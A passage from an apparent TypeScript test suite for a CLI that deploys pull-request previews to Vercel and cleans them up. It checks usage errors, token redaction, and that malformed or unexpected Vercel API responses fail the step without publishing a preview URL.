      `DELETE /v2/aliases/${alias.uid} 200`,
      `DELETE /v13/deployments/${alias.deploymentId} 200`,
    ]);
    expect(h.github.sequence()).toEqual(["GET /user 200", `GET /repos/${REPO}/issues/12/comments 200`, `PATCH /repos/${REPO}/issues/comments/${comment.id} 200`]);
    expect(h.vercel.deployments.size).toBe(0);
    expect(h.vercel.aliases.size).toBe(0);
    expect(h.github.commentsOn(REPO, 12)[0]!.body).toContain("🧹 **Removed**");

    // Running it again (a re-run of the close job) is harmless.
    const again = await cleanup(12);
    expect(again.exitCode).toBe(0);
    expect(h.github.commentsOn(REPO, 12)).toHaveLength(1);
  });

  test("with no comment and nothing deployed there is nothing to do", async () => {
    const run = await cleanup(30);
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain("nothing to clean up");
    expect(h.vercel.sequence()).toEqual(["DELETE /v2/aliases/crm-pr-30.vercel.app 404"]);
    expect(h.github.commentsOn(REPO, 30)).toHaveLength(0);
  });
});

describe("usage and input errors exit 2 with one clear line", () => {
  test.each([
    [["preview", "deploy", "--pr", "1", "--sha", SHA1], { VERCEL_TOKEN: "" }, "VERCEL_TOKEN is not set"],
    [["preview", "deploy", "missing-dir", "--pr", "1", "--sha", SHA1], {}, "missing-dir: build output directory not found"],
    [["preview", "deploy", "--sha", SHA1], {}, "no pull request number"],
    [["preview", "deploy", "--pr", "1", "--sha", SHA1, "--env", "DATABASE_URL=postgres://x"], {}, "only VITE_* variables"],
    [["preview", "deploy", "--pr", "1", "--sha", "not-a-sha"], {}, "expected a commit SHA"],
    [["preview"], {}, "choose a subcommand"],
  ] as const)("%j", async (argv, env, message) => {
    const run = await h.run([...argv], { ...env });
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain(message);
    expect(run.stderr).not.toMatch(/\n\s+at /);
  });

  test("a GitHub token the API refuses is an error naming GitHub, exit 2, token not shown", async () => {
    const run = await h.run(["preview", "deploy", "--pr", "1", "--sha", SHA1], { GITHUB_TOKEN: "wrong-token-value" });
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain("GitHub API: GET /user answered HTTP 401: Bad credentials");
    expect(run.stderr).not.toContain("wrong-token-value");
  });
});

describe("a Vercel answer that is not what the API documents fails the step, never passes", () => {
  const HTML = "<!doctype html><html><head><title>502 Bad Gateway</title></head><body>cloudflare</body></html>";
  const html = { status: 200, headers: { "content-type": "text/html; charset=utf-8" }, raw: HTML };
  const deploymentLike = { id: "dpl_unknownstate", url: "crm-unknown-crm.vercel.app", name: "crm" };
  test.each([
    ["a created deployment without an id", "createDeployment", { status: 200, body: { readyState: "READY" } }, "create", "id is missing; url is missing; name is missing"],
    ["a created deployment in an unknown state", "createDeployment", { status: 200, body: { ...deploymentLike, readyState: "DONE" } }, "create", 'readyState "DONE" is not one of QUEUED, INITIALIZING, BUILDING, READY, ERROR, CANCELED, BLOCKED'],
    ["a created deployment whose url is a full link", "createDeployment", { status: 200, body: { ...deploymentLike, url: "https://crm.vercel.app", readyState: "READY" } }, "create", "url is not a hostname"],
    ["a create answered by an HTML page", "createDeployment", html, "create", "an HTML page instead of JSON"],
    ["an upload answered by an HTML page", "uploadFile", html, "upload", "an HTML page instead of JSON"],
    ["a status poll answered by an HTML page", "getDeployment", html, "build", "an HTML page instead of JSON"],
    ["a status poll answered by null", "getDeployment", { status: 200, body: null }, "build", "a null body"],
    ["a status poll answered by an empty body", "getDeployment", { status: 200 }, "build", "an empty body"],
    ["a status poll in an unknown state", "getDeployment", { status: 200, body: { ...deploymentLike, readyState: "DONE" } }, "build", 'readyState "DONE" is not one of'],
    ["a status poll about another deployment", "getDeployment", { status: 200, body: { ...deploymentLike, readyState: "READY" } }, "build", "id is not the deployment polled"],
  ] as const)("%s: exit 1 naming the step, HTTP status and request id; no URL published", async (_name, operation, reply, step, problem) => {
    h.vercel.inject(operation, reply);
    const run = await deploy(60, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    expect(run.stderr).not.toMatch(/internal error/i);
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ verdict: "failed", step, httpStatus: 200, requestId: expect.stringMatching(/^iad1::fake-\d+$/), previewUrl: null, deploymentUrl: null });
    expect(report.error).toContain(`unexpected response from Vercel: ${problem}`);
    expect(report.error).toMatch(/answered HTTP 200, request id iad1::fake-\d+\)$/);
    // Nothing was aliased and nothing claims a preview.
    expect(h.vercel.sequence().some((call) => call.includes("/aliases"))).toBe(false);
    expect(h.vercel.aliases.size).toBe(0);
    const outputs = await h.outputs();
    expect(outputs["preview-url"]).toBe("");
    expect(outputs["deployment-id"]).not.toMatch(/undefined/);
    const comment = h.github.commentsOn(REPO, 60)[0]!.body;
    expect(comment).toContain(`❌ **Failed** at step **${step}**`);
    expect(comment).toContain("unexpected response from Vercel");
    expect(comment).not.toContain("Ready");
    expect(comment).not.toContain("undefined");
  });

  test("the reviewer's repro: READY with no id is a failure in the text report too, not PASS with https://undefined", async () => {
    h.vercel.inject("createDeployment", { status: 200, body: { readyState: "READY" } });
    const run = await deploy(61, SHA1);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).not.toContain("PASS");
    expect(run.stdout).not.toContain("undefined");
    expect(run.stdout).toContain('failed at step "create": unexpected response from Vercel: id is missing');
    expect(run.stderr).not.toMatch(/internal error/i);
  });

  test("an HTML poll fails at once instead of being waited on as QUEUED until the timeout", async () => {
    h.vercel.buildPolls = 3;
    h.vercel.inject("getDeployment", html);
    const run = await deploy(62, SHA1, "--timeout", "5m", "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as { error: string; deploymentId: string };
    expect(report.error).not.toContain("QUEUED");
    expect(h.vercel.sequence().filter((call) => call.startsWith("GET /v13/deployments/"))).toEqual([`GET /v13/deployments/${report.deploymentId} 200`]);
  });

  test("a BLOCKED deployment (a documented state that never becomes READY) fails at build instead of being waited on", async () => {
    h.vercel.inject("createDeployment", { status: 200, body: { ...deploymentLike, readyState: "BLOCKED" } });
    const run = await deploy(67, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ step: "build", error: "Vercel blocked the deployment", deploymentId: deploymentLike.id, previewUrl: null });
    expect(h.vercel.sequence().some((call) => call.startsWith(`GET /v13/deployments/`))).toBe(false);
    expect(h.vercel.sequence().some((call) => call.includes("/aliases"))).toBe(false);
  });

  test("an alias answer without uid fails at step alias, publishing only the deployment's own URL", async () => {
    h.vercel.inject("assignAlias", { status: 200, body: {} });
    const run = await deploy(63, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const deployment = [...h.vercel.deployments.values()][0]!;
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ step: "alias", httpStatus: 200, deploymentId: deployment.id, previewUrl: `https://${deployment.url}` });
    expect(report.error).toContain("unexpected response from Vercel: uid is missing; alias is missing");
    expect(await h.outputs()).toEqual({ "preview-url": `https://${deployment.url}`, "deployment-id": deployment.id });
    expect(h.github.commentsOn(REPO, 63)[0]!.body).toContain("at step **alias**");
  });

  test("a missing_files error without the list of files fails at create instead of uploading nothing", async () => {
    h.vercel.inject("createDeployment", { status: 400, body: { error: { code: "missing_files", message: "Missing files" } } });
    const run = await deploy(64, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(report).toMatchObject({ step: "create", httpStatus: 400 });
    expect(report.error).toContain("unexpected response from Vercel: missing_files error.missing is missing");
    expect(h.vercel.sequence().filter((call) => call.startsWith("POST /v2/files"))).toHaveLength(0);
  });

  test("a build log that is not a list leaves the build failure intact and warns", async () => {
    h.vercel.failNextBuild("Command \"vite build\" exited with 1", ["error TS2304: Cannot find name 'Tenant'."]);
    h.vercel.inject("getDeploymentEvents", html);
    const run = await deploy(65, SHA1, "--format", "json");
    expect(run.exitCode).toBe(1);
    const report = JSON.parse(run.stdout) as { step: string; error: string; logTail: string[]; warnings: string[] };
    expect(report.step).toBe("build");
    expect(report.error).toContain("Command \"vite build\" exited with 1");
    expect(report.logTail).toEqual([]);
    expect(JSON.stringify(report)).toContain("could not read the build log: unexpected response from Vercel: an HTML page instead of JSON");
  });

  test.each([
    ["listing the deployment's aliases", "listDeploymentAliases", { status: 200, body: null }, "a null body"],
    ["deleting the deployment", "deleteDeployment", html, "an HTML page instead of JSON"],
    ["deleting an alias", "deleteAlias", { status: 200, body: { status: "PENDING" } }, "status invalid literal value"],
  ] as const)("cleanup: an unexpected answer when %s is a problem (exit 1), not a deletion", async (_name, operation, reply, problem) => {
    expect((await deploy(66, SHA1)).exitCode).toBe(0);
    const deploymentId = [...h.vercel.deployments.keys()][0]!;
    h.vercel.inject(operation, reply);
    const run = await h.run(["preview", "cleanup", "--pr", "66", "--format", "json"]);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).not.toMatch(/internal error/i);
    const report = JSON.parse(run.stdout) as { verdict: string; problems: string[]; deletedDeployments: string[] };
    expect(report.verdict).toBe("failed");
    expect(report.problems.join("\n")).toContain(`unexpected response from Vercel: ${problem}`);
    expect(report.problems.join("\n")).toMatch(/HTTP 200, request id iad1::fake-\d+/);
    if (operation !== "deleteAlias") expect(report.deletedDeployments).not.toContain(deploymentId);
  });
});
